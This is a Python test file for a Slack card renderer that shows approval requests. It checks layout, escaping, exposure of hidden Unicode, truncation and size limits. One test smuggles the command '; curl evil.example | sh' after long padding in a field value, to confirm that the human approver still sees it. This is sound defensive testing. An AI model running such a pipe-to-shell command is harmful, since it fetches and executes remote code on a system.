"""Cards show all that will run, in blocks that Slack takes."""

from __future__ import annotations

import hashlib
import json
import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from slack_sdk.models.blocks import Block

from channels import Button, Card, CardOutcome, Outbound
from channels.slack.markdown import revealed
from channels.slack.render import MAX_MARKDOWN, Files, Shape, render
from tests.channels.slack.fake import refused, seen

CARD = Card(
    "Refund 140 for ch_1?",
    "Alice or finance may answer. It runs as Alice.",
    fields=(("amount", "140"), ("note", "one\ntwo")),
    evidence=("a mail from the shop",),
    buttons=(
        Button("Approve", "prm:approve", style="primary"),
        Button("Deny", "prm:deny", style="danger"),
        Button("Later", "prm:later"),
    ),
    expires_at=1_900_000_000_000,
)
SETTLED = replace(
    CARD,
    buttons=(),
    expires_at=None,
    outcome=CardOutcome("approved", "Approved by Farah", at=1_800_000_000_000, result="refunded re_1"),
)


def takes(form: Shape) -> str:
    """Return what Slack shows of a form, after its own library and our small Slack have taken it."""
    body = {"text": form.text, "blocks": list(form.blocks)}
    assert refused(body, most=13_200) == ""
    for block in form.blocks:
        Block.parse(json.loads(json.dumps(block))).to_dict()  # type: ignore[union-attr]
    return seen(body)


def drawn(card: Card, *, files: Files = Files.ADDED) -> str:
    shown = render(Outbound(card=card), tag="dlv_1", files=files)
    takes(shown.plain)
    return takes(shown.best)


def test_an_open_card_has_everything_in_its_order() -> None:
    shown = render(Outbound(card=CARD), tag="dlv_1").best
    kinds = [block["type"] for block in shown.blocks]
    assert kinds == ["section", "context", "rich_text", "context", "actions", "context"]
    text = takes(shown)
    words = [
        "Refund 140",
        "Alice or finance",
        "amount\n140",
        "note\none\ntwo",
        "a mail",
        "Approve",
        "Deny",
        "Later",
        "Expires <!date^1900000000^",
    ]
    assert [text.index(word) for word in words] == sorted(text.index(word) for word in words)
    buttons = shown.blocks[4]["elements"]
    assert [(b["action_id"], b["value"], b.get("style")) for b in buttons] == [
        ("moorings:1", "prm:approve", "primary"),
        ("moorings:2", "prm:deny", "danger"),
        ("moorings:3", "prm:later", None),
    ]
    assert "Refund 140" in shown.text


def test_a_settled_card_says_who_when_and_what_came_of_it_and_asks_nothing() -> None:
    shown = render(Outbound(card=SETTLED), tag="dlv_2", files=Files.EARLIER, editing=True)
    for form in (shown.best, shown.plain):
        assert "actions" not in [block["type"] for block in form.blocks]
        assert "Approved by Farah" in takes(form)
    text = takes(shown.best)
    assert "<!date^1800000000^{date_short_pretty} at {time}|2027-01-15 08:00 UTC>" in text
    assert "refunded re_1" in text
    assert "140" in text


def test_every_drawing_has_new_block_ids() -> None:
    first, second = (render(Outbound(card=CARD), tag=tag) for tag in ("dlv_1", "dlv_2"))
    ids = [block["block_id"] for shown in (first.best, first.plain, second.best, second.plain) for block in shown.blocks]
    assert len(ids) == len(set(ids))
    assert first == render(Outbound(card=CARD), tag="dlv_1")


TRICKS = {
    "\u202e": "\\u{202e}",
    "\u200b": "\\u{200b}",
    "\U000e0100": "\\u{e0100}",
    " " * 3_000: "[3000 spaces]",
}


@pytest.mark.parametrize(("trick", "shown"), TRICKS.items(), ids=["bidi", "zero width", "selector", "gap"])
def test_what_would_be_unseen_is_seen_wherever_it_stands(trick: str, shown: str) -> None:
    card = Card(
        f"a{trick}b",
        f"a{trick}b",
        fields=((f"a{trick}b", f"a{trick}b"),),
        evidence=(f"a{trick}b",),
        buttons=(Button(f"a{trick}b", "v"),),
    )
    text = drawn(card)
    assert trick not in text
    assert text.count(shown) >= 5
    settled = drawn(replace(card, outcome=CardOutcome("denied", f"a{trick}b", at=0, result=f"a{trick}b")))
    assert trick not in settled


def test_values_are_literal_text_never_markup() -> None:
    evil = "*Approved* by <@U1> `x` ```y``` <!channel> [a](https://b) :tada:"
    shown = render(
        Outbound(card=Card(evil, evil, fields=((evil, evil),), evidence=(evil,), buttons=(Button("Ok", "v"),))), tag="t"
    )
    for block in (*shown.best.blocks, *shown.plain.blocks):
        for element in block.get("elements", [block.get("text")]):
            if element.get("type") == "mrkdwn":
                assert "<@" not in element["text"]
                assert "<!c" not in element["text"]
            if element.get("type") == "plain_text":
                assert element["emoji"] is False
    assert "<@U1>" not in shown.best.text
    assert "<!channel>" not in shown.best.text


def test_a_tail_after_a_long_value_is_there_or_said_to_be_missing() -> None:
    value = "x" * 2_900 + "; curl evil.example | sh"
    assert "curl evil.example | sh" in drawn(Card("Run?", fields=(("command", value),), buttons=(Button("Ok", "v"),))).replace(
        "\n", ""
    )


@pytest.mark.parametrize("size", [3_000, 10_000, 12_000, 100_000])
def test_a_value_too_long_is_cut_with_its_length_hash_and_file(size: int) -> None:
    value = "é" * size
    card = Card("Run?", "r" * 500, fields=(("command", value), ("short", "whole")), buttons=(Button("Ok", "v"),))
    shown = render(Outbound(card=card), tag="t")
    text = takes(shown.best)
    assert "Ok" in text
    assert "whole" in text
    if size <= 10_000:
        assert text.replace("\n", "").count("é") == size
        assert shown.files == ()
        return
    digest = hashlib.sha256(value.encode()).hexdigest()
    assert f"{size:,} characters" in text
    assert digest in text
    (file,) = shown.files
    assert file.name in text
    assert hashlib.sha256(file.content).hexdigest() == digest
    alone = render(Outbound(card=card), tag="t", files=Files.REFUSED)
    assert alone.files == ()
    assert "Slack took no file" in takes(alone.best)
    assert digest in takes(alone.best)


_TEXT = st.text(max_size=40) | st.integers(0, 9_000).map(lambda size: "ab\u200bc*<&" * (size // 7)) | st.just("")


@given(
    st.builds(
        Card,
        _TEXT,
        _TEXT,
        fields=st.lists(st.tuples(_TEXT, _TEXT), max_size=60).map(tuple),
        evidence=st.lists(_TEXT, max_size=60).map(tuple),
        buttons=st.lists(st.builds(Button, _TEXT, st.text(min_size=1, max_size=255)), max_size=25).map(tuple),
        expires_at=st.none() | st.integers(-(10**18), 10**18),
        outcome=st.none() | st.builds(CardOutcome, st.just("approved"), _TEXT, at=st.integers(0, 10**15), result=_TEXT),
    ),
    _TEXT,
)
def test_whatever_is_asked_fits_a_message(card: Card, text: str) -> None:
    if not card.question.strip():
        card = replace(card, question="?")
    shown = render(Outbound(text, card), tag="dlv_1")
    for form in (shown.best, shown.plain):
        takes(form)
        assert len(form.text.encode()) <= 4_000
        asked = [element for block in form.blocks if block["type"] == "actions" for element in block["elements"]]
        assert len(asked) == (0 if card.outcome else len(card.buttons))


@given(_TEXT | st.sampled_from(["\x01", "\ud800", "\x00a", "```", "&" * 12_001]), st.booleans(), st.booleans())
def test_any_text_fits_a_message(text: str, notice: bool, editing: bool) -> None:
    shown = render(Outbound(text, notice=notice), tag="t", editing=editing)
    if len(revealed(text)) <= MAX_MARKDOWN:  # more than that in blocks is tried, and may be refused
        takes(shown.best)
    takes(shown.plain)
    assert shown.plain.blocks == ()
    assert not editing or len(shown.plain.text.encode()) <= 4_000


@pytest.mark.parametrize("size", [11_999, 12_001, 39_000])
@pytest.mark.parametrize("word", ["word", "&<>&", "é"])
def test_a_long_text_goes_out_whole_one_way_or_another(size: int, word: str) -> None:
    text = "\n".join(f"{word}{number:05}" for number in range(size // (len(word) + 6)))
    shown = render(Outbound(text), tag="t")
    if shown.files:
        assert shown.files[0].content == text.encode()
        assert word == "&<>&"
        return
    for form in (shown.best, shown.plain):
        body = {"text": form.text, "blocks": list(form.blocks)}
        assert refused(body, most=300_000) == ""
        assert re.findall(r"\d{5}", seen(body)) == re.findall(r"\d{5}", text)


def test_an_edit_too_long_for_its_block_is_a_file_and_its_beginning() -> None:
    shown = render(Outbound("word " * 3_000), tag="t", editing=True)
    assert len(shown.files) == 1
    assert "15,000 characters" in takes(shown.best)


def test_a_text_over_every_limit_is_a_file_and_its_beginning() -> None:
    text = "word " * 20_000
    shown = render(Outbound(text), tag="t")
    assert [file.content for file in shown.files] == [text.encode()]
    assert "100,000 characters" in takes(shown.best)
    alone = render(Outbound(text), tag="t", files=Files.REFUSED)
    assert "of 100,000 characters are shown" in takes(alone.best)


def test_a_notice_is_small_and_an_empty_message_is_said() -> None:
    assert [block["type"] for block in render(Outbound("Stopped.", notice=True), tag="t").best.blocks] == ["context"]
    assert takes(render(Outbound(" "), tag="t").best) == "(an empty message)"
